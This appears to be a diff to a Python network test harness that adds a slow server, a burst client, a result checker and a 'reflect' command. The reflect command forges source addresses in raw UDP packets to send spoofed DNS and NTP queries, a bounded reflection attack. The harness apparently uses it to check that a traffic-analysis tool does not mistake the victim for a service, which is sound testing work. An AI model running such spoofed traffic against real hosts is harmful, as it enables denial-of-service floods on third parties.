@@ -27,6 +27,33 @@
       every truth edge must have at least one packet from the client to
       the server's port.  Prints "ok syn=N handshakes=M" (pure SYNs, and
       SYN+ACKs, seen on truth edges) or the missing edges; exit 1 if any.
+
+  trapnet.py slow-server ADDR PORT SECONDS
+      A toy database that mostly listens: every connection first gets a
+      greeting line; then request lines are read and acknowledged all at
+      once ("OK <count>"), by one short line only every 2.5-6 s (a random
+      period per connection): a bulk load that the server confirms in
+      batches.  Between two acknowledgements only the client sends
+      payload.  Dual-stack when ADDR is "::".
+
+  trapnet.py burst-client HOST PORT CONNS SECONDS
+      The bulk loader: CONNS connections; on each in turn, every ~0.1 s,
+      a request line of 60-400 bytes, never waiting for an answer (a
+      thread per connection reads whatever the server sends).
+
+  trapnet.py reflect VICTIM COUNT SPACING TARGET...
+      A UDP reflection attack, bounded: COUNT spoofed queries in all,
+      SPACING seconds apart, round robin over the TARGETs, each with the
+      source address VICTIM (raw sockets, IP header built here).  TARGET
+      is dns:ADDR (a DNS A query for example.test, sent to ADDR:53 from
+      the victim's fixed port 41000) or ntp:ADDR (an NTP v4 client
+      request to ADDR:123 from a random victim port, as when an attacker
+      varies it).  IPv4 or IPv6 per ADDR; VICTIM is "V4,V6".
+
+  trapnet.py no-service RESULT.json IP...
+      Extra assertion for reflection: no service of renkei's result (and
+      no edge's server) is on one of the IPs.  Prints what is; exit 1 if
+      anything.
 """
 
 import ipaddress
@@ -92,6 +119,161 @@ def pool_client(host, port, conns, seconds):
         rf.close()
         s.close()
     return 0
+
+
+def dual_server(addr, port, seconds, handler):
+    family = socket.AF_INET6 if ":" in addr else socket.AF_INET
+
+    class Server(socketserver.ThreadingTCPServer):
+        address_family = family
+        allow_reuse_address = True
+        daemon_threads = True
+
+        def server_bind(self):
+            if family == socket.AF_INET6:
+                self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+            super().server_bind()
+
+    srv = Server((addr, port), handler)
+    threading.Timer(seconds, srv.shutdown).start()
+    srv.serve_forever(poll_interval=0.2)
+
+
+def slow_server(addr, port, seconds):
+    class Handler(socketserver.StreamRequestHandler):
+        def handle(self):
+            start = time.monotonic()
+            end = start + seconds
+            period = random.uniform(2.5, 6.0)
+            last, pending = start, 0
+            self.wfile.write(b"READY\n")
+            self.wfile.flush()
+            while time.monotonic() < end:
+                line = self.rfile.readline(1024)
+                if not line:
+                    return
+                pending += 1
+                now = time.monotonic()
+                if now - last >= period:
+                    self.wfile.write(b"OK %d\n" % pending)
+                    self.wfile.flush()
+                    last, pending = now, 0
+
+    dual_server(addr, port, seconds, Handler)
+
+
+def burst_client(host, port, conns, seconds):
+    socks = [socket.create_connection((host, port), timeout=5) for _ in range(conns)]
+
+    def drain(s):
+        try:
+            while s.recv(4096):
+                pass
+        except OSError:
+            pass
+
+    for s in socks:
+        threading.Thread(target=drain, args=(s,), daemon=True).start()
+    end = time.monotonic() + seconds
+    n = 0
+    while time.monotonic() < end:
+        for s in socks:
+            n += 1
+            body = b"x" * random.randint(40, 380)
+            try:
+                s.sendall(b"INSERT %d %s\n" % (n, body))
+            except OSError:
+                return 1
+        time.sleep(0.1)
+    for s in socks:
+        s.close()
+    return 0
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def udp_packet(src, dst, sport, dport, data):
+    """An IP packet (v4 or v6 after dst) carrying UDP with a right checksum."""
+    s, d = ipaddress.ip_address(src), ipaddress.ip_address(dst)
+    length = 8 + len(data)
+    udp = struct.pack("!HHHH", sport, dport, length, 0) + data
+    if d.version == 4:
+        pseudo = s.packed + d.packed + struct.pack("!BBH", 0, 17, length)
+    else:
+        pseudo = s.packed + d.packed + struct.pack("!IxxxB", length, 17)
+    c = csum(pseudo + udp) or 0xFFFF
+    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
+    if d.version == 4:
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.randint(1, 65535),
+                         0, 64, 17, 0, s.packed, d.packed)
+        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    else:
+        ip = struct.pack("!IHBB16s16s", 6 << 28, length, 17, 64, s.packed, d.packed)
+    return ip + udp
+
+
+def dns_query():
+    qid = random.randint(0, 65535)
+    name = b"".join(bytes([len(p)]) + p for p in (b"example", b"test")) + b"\0"
+    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
+
+
+def ntp_query():
+    # LI 0, version 4, mode 3 (client); the transmit timestamp is random
+    return bytes([0x23, 0, 6, 0x20]) + bytes(36) + random.randbytes(8)
+
+
+def reflect(victims, count, spacing, targets):
+    v4, v6 = victims.split(",")
+    raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw6 = None
+    plan = []
+    for t in targets:
+        kind, addr = t.split(":", 1)
+        if kind not in ("dns", "ntp"):
+            raise SystemExit(f"trapnet.py reflect: bad target {t!r}")
+        plan.append((kind, addr))
+        if ":" in addr and raw6 is None:
+            raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sent = 0
+    deadline = time.monotonic() + 30
+    while sent < count and time.monotonic() < deadline:
+        kind, addr = plan[sent % len(plan)]
+        six = ":" in addr
+        if kind == "dns":
+            pkt = udp_packet(v6 if six else v4, addr, 41000, 53, dns_query())
+        else:
+            pkt = udp_packet(v6 if six else v4, addr, random.randint(1024, 65535), 123, ntp_query())
+        (raw6 if six else raw4).sendto(pkt, (addr, 0))
+        sent += 1
+        time.sleep(spacing)
+    print(f"reflect: {sent} spoofed queries sent")
+    return 0
+
+
+def no_service(result_path, ips):
+    with open(result_path, encoding="utf-8") as fh:
+        doc = json.load(fh)
+    bad = {str(ipaddress.ip_address(i)) for i in ips}
+    found = 0
+    for s in doc.get("services", []):
+        if str(ipaddress.ip_address(s["ip"])) in bad:
+            print(f"victim service: {s['proto']} {s['ip']}:{s['port']}")
+            found += 1
+    for e in doc.get("edges", []):
+        if str(ipaddress.ip_address(e["server"])) in bad:
+            print(f"victim edge: {e['client']} -> {e['proto']} {e['server']}:{e['port']}")
+            found += 1
+    if not found:
+        print("ok: no service and no edge to " + " ".join(sorted(bad)))
+    return 1 if found else 0
 
 
 def truth(lines_path, out_path):
@@ -208,6 +390,14 @@ def main(argv):
         return pool_server(argv[2], int(argv[3]), float(argv[4]))
     if len(argv) >= 2 and argv[1] == "pool-client" and len(argv) == 6:
         return pool_client(argv[2], int(argv[3]), int(argv[4]), float(argv[5]))
+    if len(argv) >= 2 and argv[1] == "slow-server" and len(argv) == 5:
+        return slow_server(argv[2], int(argv[3]), float(argv[4]))
+    if len(argv) >= 2 and argv[1] == "burst-client" and len(argv) == 6:
+        return burst_client(argv[2], int(argv[3]), int(argv[4]), float(argv[5]))
+    if len(argv) >= 6 and argv[1] == "reflect":
+        return reflect(argv[2], min(int(argv[3]), 2000), float(argv[4]), argv[5:])
+    if len(argv) >= 4 and argv[1] == "no-service":
+        return no_service(argv[2], argv[3:])
     if len(argv) >= 2 and argv[1] == "truth" and len(argv) == 4:
         return truth(argv[2], argv[3])
     print(__doc__, file=sys.stderr)
